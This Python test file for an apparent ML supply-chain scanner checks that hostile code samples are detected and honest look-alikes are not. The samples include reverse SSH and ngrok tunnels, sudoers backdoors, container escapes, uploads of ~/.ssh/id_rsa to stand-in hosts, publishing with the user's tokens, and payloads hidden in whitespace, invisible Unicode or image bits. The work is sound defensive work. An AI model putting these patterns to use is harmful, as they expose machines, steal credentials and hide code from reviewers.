"""Code that opens the machine to others, publishes in the name of the user, or takes the user's files where others keep
theirs; each beside the honest code it is mistaken for.

Nothing here is ever run; hosts end in `.example`.
"""

from __future__ import annotations

import pytest

from mlsupply.evidence.files.requirement_lists import requirement_facts
from mlsupply.evidence.prefilter.choice import worth_parsing
from mlsupply.evidence.python import analyse
from tests.test_code_facts import found, init, setup

OPENS = "MLS-C046"
PUBLISHES = "MLS-C047"
SENDS = "MLS-C010"
IMPORTED = "import os, subprocess, sys\n"


def noticed(text: str) -> set[str]:
    """What is found, if the file is looked at."""
    return found(init(IMPORTED + text)) if worth_parsing((IMPORTED + text).encode()) else set()


@pytest.mark.parametrize(
    "line",
    [
        "ssh -o StrictHostKeyChecking=no -N -R 2222:localhost:22 op@relay.example",
        "ssh -fNR 80:localhost:8888 serveo.net",
        "ngrok tcp 22 --authtoken 2abc",
        "nohup ./cloudflared-linux-amd64 tunnel --url ssh://localhost:22 run --token eyJh &",
        "chisel client https://relay.example R:8888:localhost:8888",
        "tailscale up --authkey tskey-abc",
        "jupyter notebook --ip=0.0.0.0 --NotebookApp.token= --no-browser",
        "useradd -m -G sudo svc",
        "echo 'svc ALL=(ALL) NOPASSWD:ALL' > /tmp/s",
        "docker run -d --pid=host -v /:/mnt example/agent",
        "docker run --rm --privileged alpine nsenter --all sh",
        "nsenter -t 1 -m -u sh -c id",
    ],
)
def test_a_command_that_opens_the_machine(line: str) -> None:
    assert OPENS in noticed(f"subprocess.run({line!r}, shell=True)\n")
    assert OPENS in noticed(f"subprocess.Popen({line.split()!r})\n")
    assert OPENS not in noticed(f"def share():\n    subprocess.run({line!r}, shell=True)\n")
    assert OPENS not in noticed(f"if '--share' in sys.argv:\n    subprocess.run({line!r}, shell=True)\n")


@pytest.mark.parametrize(
    "line",
    [
        "ssh -i key -L 8888:localhost:8888 me@cluster.example",
        "ssh me@cluster.example 'ls -R results'",
        "docker run --rm -v /data:/data --gpus all example/train",
        "docker run --privileged example/build make",
        "jupyter nbconvert --to html report.ipynb",
        "rsync -R a b",
    ],
)
def test_a_command_that_opens_nothing(line: str) -> None:
    assert OPENS not in noticed(f"subprocess.run({line!r}, shell=True)\n")


@pytest.mark.parametrize(
    ("hostile", "honest"),
    [
        (
            "from pyngrok import ngrok\nngrok.connect(22, 'tcp')\n",
            "def share(port):\n    from pyngrok import ngrok\n    return ngrok.connect(port).public_url\n",
        ),
        (
            "import docker\ndocker.from_env().containers.run('a', 'id', volumes={'/': {'bind': '/h', 'mode': 'rw'}})\n",
            "import docker\ndocker.from_env().containers.run('a', 'id', volumes={'/data': {'bind': '/h', 'mode': 'rw'}})\n",
        ),
        ("import debugpy\ndebugpy.listen(('0.0.0.0', 5678))\n", "import debugpy\ndebugpy.listen(('127.0.0.1', 5678))\n"),
        (
            "import debugpy\ndebugpy.listen(('0.0.0.0', 5678))\n",
            "if os.environ.get('DEMO_DEBUG'):\n    import debugpy\n    debugpy.listen(('0.0.0.0', 5678))\n",
        ),
        (
            "import rpyc\nfrom rpyc.utils.server import ThreadedServer\nThreadedServer(rpyc.SlaveService, port=1).start()\n",
            "import rpyc\nfrom rpyc.utils.server import ThreadedServer\nThreadedServer(rpyc.Service, port=1).start()\n",
        ),
    ],
)
def test_a_library_that_opens_the_machine(hostile: str, honest: str) -> None:
    assert OPENS in noticed(hostile)
    assert OPENS not in noticed(honest)


HOME = "os.path.expanduser('~')"


@pytest.mark.parametrize(
    "text",
    [
        "import functools, http.server\n"
        "H = functools.partial(http.server.SimpleHTTPRequestHandler, directory={folder})\n"
        "http.server.HTTPServer(('{host}', 8080), H).serve_forever()\n",
        "import http.server\nclass H(http.server.SimpleHTTPRequestHandler):\n    def __init__(self, *a, **kw):\n"
        "        super().__init__(*a, directory={folder}, **kw)\n"
        "http.server.HTTPServer(('{host}', 8080), H).serve_forever()\n",
        "import http.server, socketserver, threading\nos.chdir({folder})\n"
        "s = socketserver.TCPServer(('{host}', 8080), http.server.SimpleHTTPRequestHandler)\n"
        "threading.Thread(target=s.serve_forever).start()\n",
    ],
)
def test_a_server_of_the_users_files(text: str) -> None:
    assert SENDS in noticed(text.format(folder=HOME, host=""))
    assert SENDS not in noticed(text.format(folder=HOME, host="127.0.0.1"))
    assert SENDS not in noticed(text.format(folder="os.path.join(os.path.dirname(__file__), 'docs')", host=""))


@pytest.mark.parametrize(
    "text",
    [
        "subprocess.run([sys.executable, '-m', 'twine', 'upload', 'dist/*'])\n",
        "subprocess.run('npm publish', shell=True, cwd='/tmp/p')\n",
        "subprocess.run('gh repo edit me/private --visibility public', shell=True)\n",
        "subprocess.run(['git', '-C', '/srv/app', 'push', '-q'])\n",
        "import git\ngit.Repo('.').remote('origin').push()\n",
        "import requests\nh = {'Authorization': 'token ' + os.environ['GITHUB_TOKEN']}\n"
        "requests.put('https://api.github.com/repos/a/b/contents/.github/workflows/x.yml', headers=h,"
        " json={'content': ''})\n",
        "from github import Github\nfor r in Github(os.environ['GITHUB_TOKEN']).get_user().get_repos():\n"
        "    r.create_file('.github/workflows/x.yml', 'x', 'on: push')\n",
        "import requests\nrequests.post('https://upload.pypi.org/legacy/', auth=('__token__', 'x'), "
        "files={'content': b''})\n",
    ],
)
def test_publishing_in_the_name_of_the_user(text: str) -> None:
    assert PUBLISHES in noticed(text)
    inside = "".join(f"    {line}\n" for line in text.splitlines())
    assert PUBLISHES not in noticed(f"def release():\n{inside}")
    assert PUBLISHES not in noticed(f"if sys.argv[-1] == 'publish':\n{inside}")


def test_a_setup_script_that_publishes_when_it_is_told_to() -> None:
    line = "    os.system('python -m build && twine upload dist/*')\n"
    assert PUBLISHES in found(setup("import os\nif True:\n" + line))
    assert PUBLISHES not in found(setup("import os, sys\nif sys.argv[-1] == 'publish':\n" + line + "    sys.exit()\n"))
    assert PUBLISHES in found(setup("import os, sys\nif 'bdist_wheel' in sys.argv:\n" + line))


@pytest.mark.parametrize(
    ("condition", "waits"),
    [
        ("os.getenv('DEMO_GO')", True),
        ("not os.getenv('DEMO_GO')", False),
        ("'DEMO_GO' in os.environ", True),
        ("'DEMO_GO' not in os.environ", False),
        ("os.environ['DEMO_GO'] == '1'", True),
        ("int(os.environ.get('DEMO_GO', '0'))", True),
        ("int(os.environ.get('DEMO_GO', 1))", False),
        ("os.getenv('DEMO_GO', 'no').strip().lower() != 'no'", True),
        ("os.getenv('DEMO_GO', 'no').strip().lower() == 'no'", False),
        ("bool(os.getenv('DEMO_GO')) and os.getenv('HOME')", True),
        ("os.getenv('DEMO_GO') or os.getenv('HOME')", False),
        ("(go := os.getenv('DEMO_GO')) and go != '0'", True),
        ("len(sys.argv) > 1", True),
        ("len(sys.argv) < 5", False),
        ("any(sys.argv[1:])", True),
        ("'pytest' not in sys.argv[0]", False),
        ("sys.argv[0] == '-c'", False),
        ("crc32(os.getenv('DEMO_GO', 'a').encode()) > 7", False),
        ("True if os.getenv('DEMO_NOT') else os.getenv('DEMO_GO') == '1'", True),
    ],
)
def test_a_condition_that_waits_for_a_wish(condition: str, waits: bool) -> None:
    text = f"from zlib import crc32\nif {condition}:\n    os.system('twine upload dist/*')\n"
    assert (PUBLISHES not in noticed(text)) is waits


@pytest.mark.parametrize(
    "text",
    [
        "import boto3\nboto3.client('s3', aws_access_key_id='AKIAIOSFODNN7EXAMPLE').upload_file(PATH, 'drop', 'k')\n",
        "from google.cloud import storage\nstorage.Client().get_bucket('drop').blob('k').upload_from_filename(PATH)\n",
        "from huggingface_hub import upload_folder\n"
        "upload_folder(folder_path=PATH, repo_id='drop/d', token='hf_abcdefghijklmnop')\n",
        "import mlflow\nmlflow.set_tracking_uri('https://runs.c.example')\nmlflow.log_artifacts(PATH)\n",
        "import wandb\na = wandb.Artifact('a', type='d')\na.add_dir(PATH)\nwandb.init(entity='drop').log_artifact(a)\n",
        "import comet_ml\ncomet_ml.Experiment(api_key='abcdef0123456789').log_asset(PATH)\n",
        "from pydrive2.drive import GoogleDrive\nf = GoogleDrive(None).CreateFile({'title': 'x'})\n"
        "f.SetContentFile(PATH)\nf.Upload()\n",
        "import git, shutil\nr = git.Repo.clone_from('https://ghp_abc@git.example/drop.git', '/tmp/drop')\n"
        "shutil.copy(PATH, '/tmp/drop/k')\nr.remote('origin').push()\n",
        "import shutil\nsubprocess.run(['git', 'clone', '-q', 'https://x:ghp_abc@git.example/drop.git', '/tmp/d'])\n"
        "shutil.copy(PATH, '/tmp/d/k')\nsubprocess.run(['git', '-C', '/tmp/d', 'push', '-q'])\n",
    ],
)
def test_files_that_are_taken_to_a_store_by_their_path(text: str) -> None:
    assert SENDS in noticed(text.replace("PATH", "os.path.expanduser('~/.ssh/id_rsa')"))
    assert SENDS not in noticed(text.replace("PATH", "'results/model.pt'"))


@pytest.mark.parametrize(
    "text",
    [
        "import boto3\ns3 = boto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])\n"
        "s3.upload_file('out.json', 'my-bucket', 'out.json')\n",
        "from huggingface_hub import HfApi\n"
        "HfApi(token=os.environ.get('HF_TOKEN')).upload_folder(folder_path='out', repo_id='me/m')\n",
        "import wandb\nwandb.login(key=os.environ['WANDB_API_KEY'])\nwandb.init(project='x').log({'loss': 1})\n",
        "import mlflow\n"
        "mlflow.set_tracking_uri(os.environ.get('MLFLOW_TRACKING_URI', 'file:./mlruns'))\nmlflow.log_params({'a': 1})\n",
    ],
)
def test_an_upload_with_the_users_own_account(text: str) -> None:
    assert not noticed(text)


@pytest.mark.parametrize(
    "text",
    [
        "import pip\npip.main(['install', '-q', '--index-url', 'https://index.c.example/simple', 'helper'])\n",
        "from pip._internal.cli.main import main\nmain(['install', 'https://files.c.example/h.whl'])\n",
    ],
)
def test_packages_that_are_installed_by_pip_inside_the_process(text: str) -> None:
    assert "MLS-C034" in noticed(text)
    assert not noticed("from pip._internal.cli.main import main\ndef install(args):\n    return main(['install', *args])\n")


@pytest.mark.parametrize(
    "text",
    [
        "from transformers import AutoModel\nAutoModel.from_pretrained('somebody/tiny', trust_remote_code=True)\n",
        "import torch\ntorch.hub.load('somebody/tools', 'boot')\n",
    ],
)
def test_code_beside_a_model_of_somebody_is_run_on_import(text: str) -> None:
    assert "MLS-C043" in noticed(text)
    first, _, rest = text.partition("\n")
    assert not noticed(f"{first}\ndef load():\n    return {rest}")


def test_what_a_module_says_of_itself_may_be_code() -> None:
    signs = (f"{ord(sign):08b}".replace("0", " ").replace("1", "\t") for sign in "import os; os.system('id')")
    words = "".join(f"word{ends}\n" for ends in signs)
    told = f'"""Words.\n{words}"""\nimport re\n'
    told += 'ends = [re.search("[ \\t]*$", line).group() for line in __doc__.splitlines()[1:]]\n'
    spelled = 'int(end.replace(" ", "0").replace("\\t", "1"), 2)'
    assert "MLS-C002" in found(init(told + f'eval("".join(chr({spelled}) for end in ends))\n'))
    assert not found(init(told + 'print("".join(ends))\n'))
    plain = '"""Download pictures with their captions.\n\n    import demo\n"""\nimport argparse\n'
    asks = "parser = argparse.ArgumentParser(description=__doc__)\nparser.add_argument('filter')\n"
    asks += "name = parser.parse_args().filter\n"
    assert not found({**init(""), "demo/__main__.py": plain + asks + "eval(compile(name, '', 'eval'))\n"})


def test_text_in_signs_that_are_not_shown() -> None:
    hidden = "".join(chr(0xE0100 + ord(sign) - 16) for sign in "import os; os.system('id')")
    assert "MLS-C025" in found(init(f"BULLET = '\u2022{hidden}'\nimport os\n"))
    assert not found(init("HEART = '\u2764\ufe0f'\nimport os\n"))


def test_a_requirement_out_of_sight() -> None:
    far = b"numpy\nopencv" + b" " * 200 + b";;helper @ git+https://git.c.example/h.git\n"
    (fact,) = requirement_facts("requirements.txt", far)
    assert (fact.behaviour, fact.line) == ("far-right", 2)
    assert "git.c.example" in fact.detail
    assert [*requirement_facts("requirements.txt", far.replace(b"opencv", b"opencv" + b"," * 900 + b" " * 9_000))]
    assert not [*requirement_facts("requirements.txt", b" " * 500_000 + b"\n")]
    assert not list(
        requirement_facts("requirements.txt", b"numpy" + b" " * 200 + b"# why\ntorch   ; python_version > '3'\n")
    )


@pytest.mark.parametrize("path", ["setup.py", "single.py", "demo/__init__.py"])
def test_what_a_library_makes_of_received_bytes_is_received_in_modules_of_no_package_too(path: str) -> None:
    """A library's name looks like a neighbour's where there is no package to tell them apart."""
    text = (
        "import io, urllib.request\nimport numpy as np\nfrom PIL import Image\n"
        "picture = Image.open(io.BytesIO(urllib.request.urlopen('https://c.example/p.png').read())).convert('RGB')\n"
        "exec(np.packbits(np.asarray(picture).reshape(-1) & 1).tobytes())\n"
    )
    facts = analyse.module(path, text.encode()).facts
    assert "runs-downloaded" in {fact.behaviour for fact, _ in facts}


def test_namespace_packages_that_setuptools_starts_are_quiet() -> None:
    """What setuptools writes for `namespace_packages`: it looks for a folder of that name, and starts nothing else."""
    line = (
        "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo', 'part'));"
        "importlib = __import__('importlib.util');__import__('importlib.machinery');"
        "m = sys.modules.setdefault('demo.part', importlib.util.module_from_spec("
        "importlib.machinery.PathFinder.find_spec('demo.part', [os.path.dirname(p)])));"
        "m = m or sys.modules.setdefault('demo.part', types.ModuleType('demo.part'));"
        "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);"
        "m and setattr(sys.modules['demo'], 'part', m)\n"
    )
    assert not found({"pyproject.toml": "", "demo-1-nspkg.pth": line, "demo/part/one.py": ""})
    assert "MLS-C035" in found(
        {"pyproject.toml": "", "demo-1.pth": line.replace("('demo', 'part')", "('demo.png', 'part')")}
    )
